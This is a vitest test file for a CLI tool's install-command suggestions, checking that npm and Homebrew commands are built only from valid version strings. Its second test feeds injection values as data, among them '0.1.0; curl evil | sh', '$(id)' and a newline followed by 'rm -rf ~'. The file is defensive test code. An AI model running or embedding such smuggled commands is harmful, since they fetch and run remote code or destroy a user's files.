import {describe, expect, it} from 'vitest'

import {installCommands, matchBladeSuggestions} from '../../../src/install-commands.js'

describe('the install commands a VERSION_MISMATCH names', () => {
  it('names the npm and Homebrew commands for exactly the blade\'s version', () => {
    expect(installCommands('0.3.1')).toEqual({
      npm: 'npm install -g @ie-ryukyu/shien@0.3.1',
      homebrew: 'brew install ie-ryukyu/shien/shien@0.3.1',
    })
    const suggestions = matchBladeSuggestions('0.3.1-rc.2')
    expect(suggestions[0]).toBe("Install shien 0.3.1-rc.2, the blade's version, on this laptop: npm install -g @ie-ryukyu/shien@0.3.1-rc.2")
    expect(suggestions[1]).toBe('or with Homebrew on a Mac: brew install ie-ryukyu/shien/shien@0.3.1-rc.2')
  })

  it('puts no command line together from a version that is not one (the blade says what it likes)', () => {
    for (const version of ['0.1.0; curl evil | sh', '$(id)', '', '1.2', '1.2.3\nrm -rf ~']) {
      expect(installCommands(version)).toBeUndefined()
      const suggestions = matchBladeSuggestions(version)
      expect(suggestions).toHaveLength(1)
      expect(suggestions[0]).not.toContain('install -g')
      expect(suggestions[0]).not.toContain(version || 'never')
    }
  })
})
